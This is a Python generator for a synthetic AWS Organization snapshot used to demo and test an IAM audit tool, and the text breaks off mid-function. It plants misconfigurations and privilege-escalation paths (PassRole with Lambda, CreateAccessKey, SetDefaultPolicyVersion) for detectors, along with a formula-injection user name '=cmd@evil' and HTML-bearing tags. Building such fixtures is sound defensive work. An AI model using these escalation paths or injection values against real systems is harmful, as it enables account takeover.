#!/usr/bin/env python3
"""Writes examples/demo-org/: a small, realistic AWS Organization snapshot for the demo run.

    python3 examples/make_demo_org.py            # rewrites examples/demo-org/ next to this file
    python3 examples/make_demo_org.py --out DIR  # or somewhere else
    python3 examples/make_demo_org.py --previous [--out DIR]
        # the same organization a week earlier (never committed; see "A week earlier" below);
        # DIR defaults to demo-org-previous/ in the system's temporary folder

Python 3.11 standard library only; the output is the same byte for byte on every run (no
randomness, no clock: every date is relative to COLLECTED_AT). The generated folder is
committed, so the demo works without running this script; edit the script, run it, and
commit both.

The organization "acme" (o-7k2mq9x4ve), collected at 2026-11-20T06:00:00Z:

  111122223333  acme-management       ACTIVE     audited; SCPs never apply to it
  444455556666  acme-prod             ACTIVE     audited; OU Workloads
  777788889999  acme-dev-sandbox      ACTIVE     audited; OU Sandbox
  555566667777  R&D <data-platform>   ACTIVE     not audited: AssumeRole into IamAuditorRole was
                                                 denied (the account joined last week and the audit
                                                 role is not deployed yet): error.json only
  222233334444  acme-legacy-marketing SUSPENDED  listed in accounts.json, skipped

What is planted (every check of the catalog fires at least once; tests/demo_org.rs relies
on this list):

  management  admin-access: alice.nguyen via group Administrators, break-glass-admin (suppressed
              by examples/demo-org.toml), SSO permission set AdministratorAccess;
              direct-user-policy: break-glass-admin; root-recent-use: root signed in 9 days ago;
              unused-role: stacksets-legacy-execution (never used, created 2021)
  prod        admin-access + full-admin-policy: customer policy "ReadOnlyAccess-legacy" whose default
              version grants * on * (group ReadOnly, member sam.contractor); role ops-automation's
              inline NotAction policy that leaves IAM in; admin-access: OrganizationAccountAccessRole,
              github-actions-terraform, SSO AdministratorAccess; wide-trust: partner-data-share
              (Principal AWS * with only sts:ExternalId); external-trust: legacy-backup-vendor (no
              ExternalId; its suppression expired 2026-09-30) and observability-vendor-integration (with
              ExternalId, still external); oidc-trust-unscoped: github-actions-terraform (repo:acme-corp/*);
              old.intern: console-without-mfa, unused-user, unused-credentials; jenkins-deploy:
              multiple-active-keys, stale-access-key x2, unused-credentials, direct-user-policy;
              reporting-ro (key never used): unused-user, stale-access-key, unused-credentials;
              unused-role: legacy-backup-vendor, reporting-etl-old; password-policy-weak (length 8,
              reuse 5); access-analyzer-disabled: eu-west-1; access-analyzer-finding: a public bucket
              (critical), a shared bucket and an external role (high), an unused role (low)
  escalation  admin-access by a privilege-escalation path (the escalation graph): prod's release-bot
              (iam:PassRole + lambda:CreateFunction → ops-automation, lambda-001) and helpdesk
              (iam:CreateAccessKey for sam.contractor, iam-002); the management account's
              release-orchestrator (sts:AssumeRole into the member accounts' OrganizationAccountAccessRole,
              across accounts); dev's ml-notebook (iam:SetDefaultPolicyVersion brings back v1 of its own
              policy notebook-tools, which granted *); ProdOperator (PowerUserAccess) may update any
              Lambda function's code, and ops-automation runs as one: a potential path (medium)
  dev-sandbox admin-access: sandbox-admin (info: AdministratorAccess capped by
              SandboxPermissionsBoundary), =cmd@evil (may attach policies to itself),
              OrganizationAccountAccessRole; oidc-trust-unscoped: github-actions-sandbox (:aud only);
              root-mfa-disabled and root-access-keys (a 2019 key); console-without-mfa: =cmd@evil,
              test-user-2021; unused-user: test-user-2021; unused-credentials: test-user-2021, dev.lee;
              stale-access-key + direct-user-policy: ml-notebook; unused-role:
              OrganizationAccountAccessRole, old-poc-lambda-role; password-policy-weak: no policy;
              access-analyzer-disabled: us-east-1 has only an unused-access analyzer;
              access-analyzer-finding: UnusedIAMUserPassword (low)
  data-platform  account-not-audited

IAM Identity Center (organization/identity-center/; instance ssoins-7223a1b2c3d4e5f6 owned by
the management account, identity store d-9067c1a2b3). Each permission set is provisioned
(AccountIds) to the accounts listed, and each provisioned pair has its role
AWSReservedSSO_<set>_<16 hex> under /aws-reserved/sso.amazonaws.com/ in that account's
authorization details, with the set's managed policies attached, its inline policy as
AwsSSOInlinePolicy and its boundary as the role's (main() asserts this), except where planted:

  permission set       policies                               session  provisioned to
  AdministratorAccess  AdministratorAccess                    PT8H     management, prod
  ReadOnlyAccess       ReadOnlyAccess                         PT1H     management, prod, dev-sandbox
  DeveloperAccess      PowerUserAccess, boundary DeveloperBoundary (customer managed, in dev-sandbox)
                                                              PT4H     dev-sandbox
  Billing              job-function/Billing                   PT1H     management
  ProdOperator         PowerUserAccess + inline Deny of deleting data
                                                              PT4H     prod
  PowerUserAccess      PowerUserAccess (legacy)               PT12H    dev-sandbox

  people (UserName <name>@acme.example): alice.nguyen, raj.mehta, carol.jensen, diego.ramos,
  emma.schulz, farid.haddad, priya.patel; groups: Admins (alice.nguyen, raj.mehta), Developers
  (diego.ramos, farid.haddad), Auditors (carol.jensen, emma.schulz), Contractors (empty)

  assignments  management: AdministratorAccess to Admins and to carol.jensen; ReadOnlyAccess to
               Auditors; Billing to priya.patel and to a deleted group (once "Finance")
               prod: AdministratorAccess to Admins and to diego.ramos (new this week);
               ReadOnlyAccess to Auditors and to a deleted user (kenji.sato, deleted this week);
               ProdOperator to farid.haddad
               dev-sandbox: ReadOnlyAccess to Auditors; DeveloperAccess to Developers and to
               Contractors

  sso-admin-assignment (one per person per account, 6): alice.nguyen and raj.mehta on management
               and on prod (via Admins); carol.jensen on management (direct); diego.ramos on prod
               (direct)
  long session: AdministratorAccess (admin-equivalent, PT8H, over 4 h)
  drift        a role with no assignment on its account: AWSReservedSSO_PowerUserAccess_8b7a6c5d4e3f2a19
               in dev-sandbox; an assignment whose role is missing: ReadOnlyAccess on dev-sandbox
               (Auditors; the set lists dev-sandbox in AccountIds but the account has no
               AWSReservedSSO_ReadOnlyAccess_* role); an assignment to a deleted user: ReadOnlyAccess
               on prod, PrincipalId 9067c1a2b3-043f8e2d-1421-a67c-a816-5a3fd7555d86 (kenji.sato,
               not in users.json); to a deleted group: Billing on management, PrincipalId
               9067c1a2b3-0fc3de73-e54c-aef1-53e5-7c0af5227f96 ("Finance", not in groups.json); to an empty group:
               DeveloperAccess on dev-sandbox to Contractors
  must not     carol.jensen is not admin on prod (AdministratorAccess on management only; on prod
               she holds ReadOnlyAccess via Auditors); diego.ramos is not admin on management;
               nobody is admin on dev-sandbox (AdministratorAccess is not provisioned there;
               DeveloperAccess is PowerUserAccess capped by DeveloperBoundary); emma.schulz
               (Auditors), farid.haddad (DeveloperAccess; ProdOperator, PowerUserAccess: its role reaches
               admin only by a potential Lambda path, "potential" in the roster, not an
               sso-admin-assignment) and priya.patel (Billing) hold no admin-equivalent set; the deleted user and group and
               the empty group name no person; no long-session finding for PowerUserAccess (PT12H)
               or DeveloperAccess (PT4H: not over 4 h), neither admin-equivalent; no drift for the
               other roles (management: AdministratorAccess, ReadOnlyAccess, Billing; prod:
               AdministratorAccess, ReadOnlyAccess, ProdOperator; dev-sandbox: DeveloperAccess),
               each assigned on its account. The Identity Center roles' IAM findings are those
               listed above (SSO AdministratorAccess on management and prod, ProdOperator's
               potential path); the others raise none.

A week earlier (--previous: collected 2026-11-13T06:00:00Z, every "N days ago" relative to that
instant, absolute dates unchanged), for a run to compare this week's with:

  - diego.ramos had no AdministratorAccess on prod (he gained admin on prod this week);
  - emma.schulz was also in Admins (admin on management and prod; she lost it this week);
  - kenji.sato was still in the identity store (his ReadOnlyAccess on prod was no drift);
  - what was created in the last 7 days did not exist: the account data-platform (joined 6
    days ago: not in accounts.json, scps.json or the manifest, no error.json), prod's user
    new.hire (6 days) and dev-sandbox's user =cmd@evil (3 days).

Clean look-alikes that must not fire: s3-logs-writer (only its old non-default version v1 grants
* on *), log-archive-bucket-admin (* on one bucket), never-used service-linked roles, the
AWSReservedSSO_ReadOnlyAccess / PowerUserAccess / DeveloperAccess / Billing roles, github-actions-deploy-prod (GitHub OIDC
pinned to repo:acme-corp/payments-api:ref:refs/heads/main), eks-external-dns (IRSA pinned to one
service account), cicd-deployer (trusts the management account's org-pipeline role),
org-readonly-access (Principal AWS * limited by aws:PrincipalOrgID), dev.kim (PowerUserAccess),
new.hire (never signed in, created 6 days ago), the escalation look-alikes key-self-service (access
keys for itself only), app-deployer (PassRole only for app-* roles to Lambda; app-thumbnailer is not
admin), intern.boundary (may write its own policies, capped by SandboxPermissionsBoundary: info),
quicksetup-ssm-helper (AttachRolePolicy only for AmazonSSMManagedInstanceCore and only by
AWS-QuickSetup-* roles), sandbox-trust-editor (may rewrite sandbox-admin's trust, but sandbox-admin
is capped), an ARCHIVED Access Analyzer finding, the
management account's strong password policy and organization analyzers.

Untrusted strings: the sandbox user `=cmd@evil` (a formula in a spreadsheet cell) carries tags
holding HTML and a HYPERLINK formula, a prod role tag holds HTML, and the not-audited account's
name holds `&`, `<` and `>`: the reports must show them as text.

Shapes are those the AWS CLI v2 prints (`--output json`): PascalCase IAM and Organizations
output with `+00:00` timestamps, camelCase Access Analyzer output (ListAnalyzers `analyzers`,
ListFindingsV2 `findings`, plus the `isPublic` flag of ListFindings v1 on external-access
findings, which the tool also reads), policy documents as JSON objects. AWS managed policy
documents are trimmed to a few representative statements (the real ReadOnlyAccess is far
longer); each keeps its effect class (admin or not, which services).
"""

import argparse
import base64
import csv
import hashlib
import io
import json
import shutil
import tempfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

COLLECTED_AT = datetime(2026, 11, 20, 6, 0, 0, tzinfo=timezone.utc)
ORG_ID, ROOT_ID = "o-7k2mq9x4ve", "r-8f2x"
OU_WORKLOADS, OU_SANDBOX, OU_SUSPENDED = "ou-8f2x-w0rk7q1a", "ou-8f2x-sbx3k9p2", "ou-8f2x-susp0x1z"
MGMT, PROD, DEV, DATA, LEGACY = "111122223333", "444455556666", "777788889999", "555566667777", "222233334444"
VENDOR_OBSERVABILITY = "210987654321"  # a SaaS monitoring vendor: trusted with sts:ExternalId
VENDOR_BACKUP = "123456789012"  # a backup vendor whose contract ended: trusted with nothing
REGIONS = ["us-east-1", "eu-west-1"]
V = "2012-10-17"
GITHUB = "token.actions.githubusercontent.com"
EKS_ISSUER = "oidc.eks.us-east-1.amazonaws.com/id/5C1A2B3D4E5F60718293A4B5C6D7E8F9"
SSO_SAML = "AWSSSO_3c7e1f9a2b4d5e60_DO_NOT_DELETE"

CRED_HEADER = (
    ["user", "arn", "user_creation_time", "password_enabled", "password_last_used", "password_last_changed",
     "password_next_rotation", "mfa_active"]
    + [f"access_key_{k}_{f}" for k in (1, 2)
       for f in ("active", "last_rotated", "last_used_date", "last_used_region", "last_used_service")]
    + ["cert_1_active", "cert_1_last_rotated", "cert_2_active", "cert_2_last_rotated"]
)

# --- small helpers --------------------------------------------------------------------------

def ago(days, hours=0, minutes=0, seconds=0):
    return COLLECTED_AT - timedelta(days=days, hours=hours, minutes=minutes, seconds=seconds)


def iso(dt):
    """IAM timestamps as the AWS CLI v2 prints them."""
    return dt.strftime("%Y-%m-%dT%H:%M:%S+00:00")


def iso_us(dt):
    """Organizations and Access Analyzer timestamps: microseconds when there are any."""
    return dt.isoformat()


def unique_id(prefix, *parts):
    """A stable 21-character IAM unique id (AIDA…, AROA…, AGPA…, ANPA…) derived from the name."""
    digest = hashlib.sha256("/".join(parts).encode()).digest()
    return prefix + base64.b32encode(digest).decode()[:17]


def doc(*statements):
    return {"Version": V, "Statement": list(statements)}


def allow(actions, resources="*", sid=None, condition=None):
    statement = {"Sid": sid} if sid else {}
    statement.update(Effect="Allow", Action=actions, Resource=resources)
    if condition:
        statement["Condition"] = condition
    return statement


def deny(actions, resources="*", sid=None, condition=None):
    statement = allow(actions, resources, sid, condition)
    statement["Effect"] = "Deny"
    return statement


def trust_service(service, condition=None):
    statement = {"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"}
    if condition:
        statement["Condition"] = condition
    return doc(statement)


def trust_aws(principal, condition=None, action="sts:AssumeRole"):
    statement = {"Effect": "Allow", "Principal": {"AWS": principal}, "Action": action}
    if condition:
        statement["Condition"] = condition
    return doc(statement)


def trust_oidc(account, provider, condition):
    return doc({
        "Effect": "Allow",
        "Principal": {"Federated": f"arn:aws:iam::{account}:oidc-provider/{provider}"},
        "Action": "sts:AssumeRoleWithWebIdentity",
        "Condition": condition,
    })


def trust_sso(account):
    return doc({
        "Effect": "Allow",
        "Principal": {"Federated": f"arn:aws:iam::{account}:saml-provider/{SSO_SAML}"},
        "Action": ["sts:AssumeRoleWithSAML", "sts:TagSession"],
        "Condition": {"StringEquals": {"SAML:aud": "https://signin.aws.amazon.com/saml"}},
    })


# --- AWS managed policies (documents trimmed, effect class kept) ---------------------------

READ_ONLY_ACTIONS = [f"{service}:{verb}*" for service in (
    "acm", "cloudformation", "cloudtrail", "cloudwatch", "dynamodb", "ec2", "ecr", "ecs", "eks", "iam", "kms",
    "lambda", "logs", "organizations", "rds", "route53", "s3", "sns", "sqs", "ssm") for verb in ("Describe", "Get", "List")]

AWS_MANAGED = {
    # name: (path, PolicyId, DefaultVersionId, created, document)
    "AdministratorAccess": ("/", "ANPAIWMBCKSKIEE64ZLYK", "v1", datetime(2015, 2, 6, 18, 39, 46, tzinfo=timezone.utc),
                            doc(allow("*"))),
    "PowerUserAccess": ("/", "ANPAJYRXTHIB4FOVS3ZXS", "v5", datetime(2015, 2, 6, 18, 39, 47, tzinfo=timezone.utc), doc(
        {"Effect": "Allow", "NotAction": ["iam:*", "organizations:*", "account:*"], "Resource": "*"},
        allow(["account:GetAccountInformation", "account:GetPrimaryEmail", "account:ListRegions",
               "iam:CreateServiceLinkedRole", "iam:DeleteServiceLinkedRole", "iam:ListRoles",
               "organizations:DescribeOrganization"]))),
    "ReadOnlyAccess": ("/", "ANPAILL3HVNFSB6DCOWYQ", "v118", datetime(2015, 2, 6, 18, 39, 48, tzinfo=timezone.utc),
                       doc(allow(READ_ONLY_ACTIONS))),
    "SecurityAudit": ("/", "ANPAIX2T3QCXHR2OGGCTO", "v52", datetime(2015, 2, 6, 18, 41, 1, tzinfo=timezone.utc), doc(
        allow(["access-analyzer:List*", "cloudtrail:Describe*", "cloudtrail:GetTrailStatus", "config:Describe*",
               "ec2:Describe*", "iam:GenerateCredentialReport", "iam:Get*", "iam:List*", "kms:Describe*",
               "kms:List*", "organizations:Describe*", "organizations:List*", "s3:GetBucketPolicy*",
               "s3:ListAllMyBuckets"]))),
    "job-function/Billing": ("/job-function/", "ANPAIFTHXT6FFMIRT7ZEA", "v9",
                             datetime(2016, 11, 10, 17, 33, 18, tzinfo=timezone.utc), doc(
        allow(["aws-portal:*Billing", "aws-portal:*PaymentMethods", "aws-portal:*Usage", "budgets:*", "ce:*",
               "cur:*", "invoicing:*", "payments:*", "tax:*"]))),
    "AmazonSageMakerFullAccess": ("/", "ANPAJZ5IWYMXO5QDB4QOG", "v27",
                                  datetime(2017, 11, 29, 13, 7, 59, tzinfo=timezone.utc), doc(
        allow(["sagemaker:*", "ecr:GetAuthorizationToken", "ecr:BatchGetImage", "logs:CreateLogGroup",
               "logs:PutLogEvents", "cloudwatch:PutMetricData"]),
        allow("iam:PassRole", "arn:aws:iam::*:role/*AmazonSageMaker*",
              condition={"StringEquals": {"iam:PassedToService": "sagemaker.amazonaws.com"}}))),
    "aws-service-role/AWSSupportServiceRolePolicy": (
        "/aws-service-role/", "ANPAJ7W6266ELXF5MISDS", "v31", datetime(2018, 4, 19, 18, 4, 44, tzinfo=timezone.utc),
        doc(allow(["support:*", "ec2:Describe*", "iam:GetAccountSummary", "s3:GetBucketPolicy"]))),
    "aws-service-role/AWSTrustedAdvisorServiceRolePolicy": (
        "/aws-service-role/", "ANPAJH4QJ2WMHBOB47BUE", "v12", datetime(2018, 2, 22, 21, 24, 25, tzinfo=timezone.utc),
        doc(allow(["autoscaling:Describe*", "cloudtrail:DescribeTrails", "ec2:Describe*", "iam:GenerateCredentialReport",
                   "iam:GetAccountPasswordPolicy", "iam:GetCredentialReport", "s3:GetBucketAcl"]))),
    "aws-service-role/AWSOrganizationsServiceTrustPolicy": (
        "/aws-service-role/", "ANPAJQ5J3OBL6UOP3GOSY", "v2", datetime(2017, 10, 10, 23, 4, 7, tzinfo=timezone.utc),
        doc(allow(["iam:DeleteRole"], "arn:aws:iam::*:role/aws-service-role/organizations.amazonaws.com/*"),
            allow(["iam:CreateServiceLinkedRole"]))),
    "aws-service-role/AmazonECSServiceRolePolicy": (
        "/aws-service-role/", "ANPAIVUWKCAI7URU4WUEI", "v21", datetime(2017, 10, 14, 1, 18, 58, tzinfo=timezone.utc),
        doc(allow(["ec2:AttachNetworkInterface", "ec2:CreateNetworkInterface", "ec2:Describe*",
                   "elasticloadbalancing:Describe*", "elasticloadbalancing:RegisterTargets",
                   "logs:CreateLogGroup", "servicediscovery:RegisterInstance"]))),
    "aws-service-role/AccessAnalyzerServiceRolePolicy": (
        "/aws-service-role/", "ANPAZKAPJZG4GS2U5XZZP", "v14", datetime(2019, 12, 2, 17, 13, 38, tzinfo=timezone.utc),
        doc(allow(["iam:GetRole", "iam:ListRoles", "kms:DescribeKey", "kms:GetKeyPolicy", "s3:GetBucketPolicy*",
                   "organizations:List*", "organizations:Describe*"]))),
}


# --- IAM Identity Center (organization/identity-center/) ------------------------------------

# --previous: the organization as it stood a week before COLLECTED_AT (set by main()).
PREVIOUS = False

IC_INSTANCE = "ssoins-7223a1b2c3d4e5f6"
IC_STORE = "d-9067c1a2b3"
IC_CREATED = datetime(2023, 1, 24, 13, 55, 12, 418000, tzinfo=timezone.utc)
DEVELOPER_ACCESS_CREATED = datetime(2026, 3, 9, 10, 15, 0, tzinfo=timezone.utc)

# name: its description, session duration, AWS managed policies, inline policy, boundary (a
# customer managed policy reference: the policy of that name must exist in every account the
# set is provisioned to), the accounts it is provisioned to (AccountIds), and its id.
PERMISSION_SETS = {
    "AdministratorAccess": dict(
        id="ps-6804f1b9a2c3d4e5", description="Full administrator access", duration="PT8H",
        managed=["AdministratorAccess"], inline=None, boundary=None, accounts=[MGMT, PROD], created=IC_CREATED),
    "ReadOnlyAccess": dict(
        id="ps-1f3e5d7c9b0a2468", description="Read-only access to every service", duration="PT1H",
        managed=["ReadOnlyAccess"], inline=None, boundary=None, accounts=[MGMT, PROD, DEV], created=IC_CREATED),
    "DeveloperAccess": dict(
        id="ps-9a8b7c6d5e4f3021", description="Power user for the sandbox, capped by DeveloperBoundary",
        duration="PT4H", managed=["PowerUserAccess"], inline=None, boundary="DeveloperBoundary",
        boundary_document=doc(allow(["ec2:*", "s3:*", "lambda:*", "dynamodb:*", "logs:*", "cloudwatch:*", "sqs:*",
                                     "sns:*", "ecr:*", "ecs:*", "cloudformation:*", "ssm:GetParameter*"],
                                    sid="WorkloadServicesOnly")),
        accounts=[DEV], created=DEVELOPER_ACCESS_CREATED),
    "Billing": dict(
        id="ps-2c4e6a8b0d1f3579", description="Billing and cost management", duration="PT1H",
        managed=["job-function/Billing"], inline=None, boundary=None, accounts=[MGMT], created=IC_CREATED),
    "ProdOperator": dict(
        id="ps-7e5c3a1f9d8b6402", description="Operate production workloads; no IAM, no deleting data",
        duration="PT4H", managed=["PowerUserAccess"],
        inline=doc(deny(["rds:DeleteDBInstance", "rds:DeleteDBCluster", "dynamodb:DeleteTable",
                         "s3:DeleteBucket"], sid="NoDeletingData")),
        boundary=None, accounts=[PROD], created=IC_CREATED),
    # Replaced by DeveloperAccess; still provisioned to the sandbox, no assignment left.
    "PowerUserAccess": dict(
        id="ps-4b6d8f0a2c1e3957", description="Legacy: use DeveloperAccess", duration="PT12H",
        managed=["PowerUserAccess"], inline=None, boundary=None, accounts=[DEV], created=IC_CREATED),
}

# The identity store's people: user name (their sign-in, an email address), given and family name.
IC_PEOPLE = [
    ("alice.nguyen", "Alice", "Nguyen"),
    ("raj.mehta", "Raj", "Mehta"),
    ("carol.jensen", "Carol", "Jensen"),
    ("diego.ramos", "Diego", "Ramos"),
    ("emma.schulz", "Emma", "Schulz"),
    ("farid.haddad", "Farid", "Haddad"),
    ("priya.patel", "Priya", "Patel"),
]
# Left the company this week: deleted from the identity store, the direct assignment stayed.
IC_DELETED_USER = ("kenji.sato", "Kenji", "Sato")
# A group deleted long ago ("Finance"): its assignment stayed.
IC_DELETED_GROUP = "Finance"

IC_GROUPS = [
    # name, description, members (this week)
    ("Admins", "Organization administrators", ["alice.nguyen", "raj.mehta"]),
    ("Developers", "Application developers (sandbox)", ["diego.ramos", "farid.haddad"]),
    ("Auditors", "Internal audit and security review: read-only everywhere", ["carol.jensen", "emma.schulz"]),
    ("Contractors", "External contractors (nobody at the moment)", []),
]
# A week earlier emma.schulz was still in Admins (she moved to Auditors this week).
IC_GROUPS_PREVIOUS = {"Admins": ["alice.nguyen", "raj.mehta", "emma.schulz"]}

IC_ASSIGNMENTS = [
    # account, permission set, principal type, user name or group name
    (MGMT, "AdministratorAccess", "GROUP", "Admins"),
    (MGMT, "AdministratorAccess", "USER", "carol.jensen"),  # admin on management only
    (MGMT, "ReadOnlyAccess", "GROUP", "Auditors"),
    (MGMT, "Billing", "USER", "priya.patel"),
    (MGMT, "Billing", "GROUP", IC_DELETED_GROUP),  # drift: deleted group
    (PROD, "AdministratorAccess", "GROUP", "Admins"),
    (PROD, "AdministratorAccess", "USER", "diego.ramos"),  # new this week
    (PROD, "ReadOnlyAccess", "GROUP", "Auditors"),
    (PROD, "ReadOnlyAccess", "USER", IC_DELETED_USER[0]),  # drift: deleted user (this week)
    (PROD, "ProdOperator", "USER", "farid.haddad"),
    (DEV, "ReadOnlyAccess", "GROUP", "Auditors"),  # drift: its role was deleted from the account
    (DEV, "DeveloperAccess", "GROUP", "Developers"),
    (DEV, "DeveloperAccess", "GROUP", "Contractors"),  # drift: empty group
]
IC_NEW_THIS_WEEK = {(PROD, "AdministratorAccess", "USER", "diego.ramos")}
# Provisioned (in AccountIds) but the AWSReservedSSO role is not in the account.
IC_MISSING_ROLES = {(DEV, "ReadOnlyAccess")}


def store_id(*parts):
    """An identity store id as AWS makes them: the store's digits, then a UUID."""
    h = hashlib.sha256("/".join(parts).encode()).hexdigest()
    return f"{IC_STORE[2:]}-{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"


def permission_set_arn(name):
    return f"arn:aws:sso:::permissionSet/{IC_INSTANCE}/{PERMISSION_SETS[name]['id']}"


def user_id(user_name):
    return store_id("user", user_name)


def group_id(group_name):
    return store_id("group", group_name)


def identity_center_files():
    """The files of organization/identity-center/, by name, for this week (or a week earlier)."""
    instances = {"Instances": [{
        "InstanceArn": f"arn:aws:sso:::instance/{IC_INSTANCE}", "IdentityStoreId": IC_STORE,
        "OwnerAccountId": MGMT, "Name": "acme", "CreatedDate": iso_us(IC_CREATED), "Status": "ACTIVE"}]}

    sets = []
    for name, ps in PERMISSION_SETS.items():
        entry = {"Name": name, "PermissionSetArn": permission_set_arn(name), "Description": ps["description"],
                 "CreatedDate": iso_us(ps["created"]), "SessionDuration": ps["duration"],
                 "AttachedManagedPolicies": [{"Name": m.rsplit("/", 1)[-1], "Arn": f"arn:aws:iam::aws:policy/{m}"}
                                             for m in ps["managed"]],
                 "CustomerManagedPolicyReferences": []}
        if ps["inline"]:
            entry["InlinePolicy"] = ps["inline"]
        if ps["boundary"]:
            entry["PermissionsBoundary"] = {"CustomerManagedPolicyReference": {"Name": ps["boundary"], "Path": "/"}}
        entry["AccountIds"] = list(ps["accounts"])
        sets.append(entry)

    people = IC_PEOPLE + ([IC_DELETED_USER] if PREVIOUS else [])
    users = {"Users": [{
        "UserName": f"{name}@acme.example", "UserId": user_id(name),
        "Name": {"FamilyName": family, "GivenName": given}, "DisplayName": f"{given} {family}",
        "Emails": [{"Value": f"{name}@acme.example", "Type": "work", "Primary": True}],
        "IdentityStoreId": IC_STORE,
    } for name, given, family in people]}
    groups = {"Groups": [{"GroupId": group_id(name), "DisplayName": name, "Description": description,
                          "IdentityStoreId": IC_STORE} for name, description, _ in IC_GROUPS]}
    memberships = {"GroupMemberships": [
        {"IdentityStoreId": IC_STORE, "MembershipId": store_id("membership", name, member),
         "GroupId": group_id(name), "MemberId": {"UserId": user_id(member)}}
        for name, _, members in IC_GROUPS
        for member in (IC_GROUPS_PREVIOUS.get(name, members) if PREVIOUS else members)]}

    assignments = {"AccountAssignments": [{
        "AccountId": account, "PermissionSetArn": permission_set_arn(name), "PrincipalType": kind,
        "PrincipalId": user_id(principal) if kind == "USER" else group_id(principal),
    } for account, name, kind, principal in IC_ASSIGNMENTS
        if not (PREVIOUS and (account, name, kind, principal) in IC_NEW_THIS_WEEK)]}
    return {"status.json": {"Collected": True}, "instances.json": instances, "permission-sets.json": {"PermissionSets": sets},
            "account-assignments.json": assignments, "users.json": users, "groups.json": groups,
            "group-memberships.json": memberships}


def check_identity_center(accounts):
    """The roles in each account's authorization details agree with the permission sets: every
    provisioned pair has its AWSReservedSSO role (but the planted missing one), with the set's
    managed policies, inline policy and boundary, and every such role belongs to a set
    provisioned to its account."""
    roles = {a.id: {r["RoleName"]: r for r in a.roles} for a in accounts}
    for name, ps in PERMISSION_SETS.items():
        for account in ps["accounts"]:
            found = [r for n, r in roles[account].items() if n.startswith(f"AWSReservedSSO_{name}_")]
            if (account, name) in IC_MISSING_ROLES:
                assert not found, (account, name)
                continue
            assert len(found) == 1, (account, name, found)
            role = found[0]
            assert role["Path"] == "/aws-reserved/sso.amazonaws.com/", role["Arn"]
            assert len(role["RoleName"].rsplit("_", 1)[1]) == 16, role["RoleName"]
            assert sorted(p["PolicyArn"] for p in role["AttachedManagedPolicies"]) == sorted(
                f"arn:aws:iam::aws:policy/{m}" for m in ps["managed"]), role["Arn"]
            inline = {p["PolicyName"]: p["PolicyDocument"] for p in role["RolePolicyList"]}
            assert inline == ({"AwsSSOInlinePolicy": ps["inline"]} if ps["inline"] else {}), role["Arn"]
            boundary = role.get("PermissionsBoundary", {}).get("PermissionsBoundaryArn")
            assert boundary == (f"arn:aws:iam::{account}:policy/{ps['boundary']}" if ps["boundary"] else None)
    for account, by_name in roles.items():
        for role_name in by_name:
            if role_name.startswith("AWSReservedSSO_"):
                name = role_name[len("AWSReservedSSO_"):].rsplit("_", 1)[0]
                assert account in PERMISSION_SETS[name]["accounts"], role_name
    for account, name, _, _ in IC_ASSIGNMENTS:
        assert account in PERMISSION_SETS[name]["accounts"], (account, name)


# --- one account's IAM graph and credential report ------------------------------------------

class Account:
    def __init__(self, account_id, name):
        self.id, self.name = account_id, name
        self.users, self.groups, self.roles = [], [], []
        self.policies = {}  # arn -> policy detail (GAAD "Policies" entry)
        self.attachments, self.boundary_uses = {}, {}
        self.cred_rows = []
        self.mfa_devices = 0
        self.root = None

    def arn(self, kind, name, path="/"):
        return f"arn:aws:iam::{self.id}:{kind}{path}{name}"

    def aws_policy(self, name):
        path, policy_id, version, created, document = AWS_MANAGED[name]
        arn = f"arn:aws:iam::aws:policy/{name}"
        if arn not in self.policies:
            self.policies[arn] = {
                "PolicyName": name.rsplit("/", 1)[-1], "PolicyId": policy_id, "Arn": arn, "Path": path,
                "DefaultVersionId": version, "AttachmentCount": 0, "PermissionsBoundaryUsageCount": 0,
                "IsAttachable": True, "CreateDate": iso(created), "UpdateDate": iso(created + timedelta(days=900)),
                "PolicyVersionList": [{"Document": document, "VersionId": version, "IsDefaultVersion": True,
                                       "CreateDate": iso(created + timedelta(days=900))}],
            }
        return arn

    def customer_policy(self, name, versions, created, description=None):
        """versions: [(document, days ago created, is_default)], newest first, as IAM lists them."""
        arn = self.arn("policy", name)
        default = next(f"v{len(versions) - i}" for i, (_, _, d) in enumerate(versions) if d)
        entry = {
            "PolicyName": name, "PolicyId": unique_id("ANPA", self.id, name), "Arn": arn, "Path": "/",
            "DefaultVersionId": default, "AttachmentCount": 0, "PermissionsBoundaryUsageCount": 0,
            "IsAttachable": True, "CreateDate": iso(created), "UpdateDate": iso(ago(min(v[1] for v in versions))),
            "PolicyVersionList": [
                {"Document": document, "VersionId": f"v{len(versions) - i}", "IsDefaultVersion": is_default,
                 "CreateDate": iso(ago(days, 3, 12))}
                for i, (document, days, is_default) in enumerate(versions)
            ],
        }
        if description:
            entry["Description"] = description
        self.policies[arn] = entry
        return arn

    def _attached(self, arns):
        out = []
        for arn in arns:
            self.policies[arn]["AttachmentCount"] += 1
            out.append({"PolicyName": self.policies[arn]["PolicyName"], "PolicyArn": arn})
        return out

    def _boundary(self, entity, arn):
        if arn:
            self.policies[arn]["PermissionsBoundaryUsageCount"] += 1
            entity["PermissionsBoundary"] = {"PermissionsBoundaryType": "Policy", "PermissionsBoundaryArn": arn}

    def group(self, name, created, attached=(), inline=None):
        self.groups.append({
            "Path": "/", "GroupName": name, "GroupId": unique_id("AGPA", self.id, name), "Arn": self.arn("group", name),
            "CreateDate": iso(created),
            "GroupPolicyList": [{"PolicyName": k, "PolicyDocument": v} for k, v in (inline or {}).items()],
            "AttachedManagedPolicies": self._attached(attached),
        })

    def user(self, name, created, groups=(), attached=(), inline=None, tags=(), boundary=None,
             password=None, mfa=False, keys=()):
        """password: None (no console) or (last used days ago | None = never, last changed days ago).
        keys: [(active, rotated days ago, last used days ago | None, region, service)]."""
        entity = {
            "Path": "/", "UserName": name, "UserId": unique_id("AIDA", self.id, name), "Arn": self.arn("user", name),
            "CreateDate": iso(created),
            "UserPolicyList": [{"PolicyName": k, "PolicyDocument": v} for k, v in (inline or {}).items()],
            "GroupList": list(groups),
            "AttachedManagedPolicies": self._attached(attached),
        }
        self._boundary(entity, boundary)
        entity["Tags"] = [{"Key": k, "Value": v} for k, v in tags]
        self.users.append(entity)
        self.mfa_devices += bool(mfa)

        row = dict.fromkeys(CRED_HEADER, "N/A")
        row.update(user=name, arn=entity["Arn"], user_creation_time=iso(created), password_enabled="false",
                   mfa_active=str(bool(mfa)).lower(), cert_1_active="false", cert_2_active="false")
        if password:
            used, changed = password
            row.update(password_enabled="true",
                       password_last_used=iso(ago(used, 7, 41)) if used is not None else "no_information",
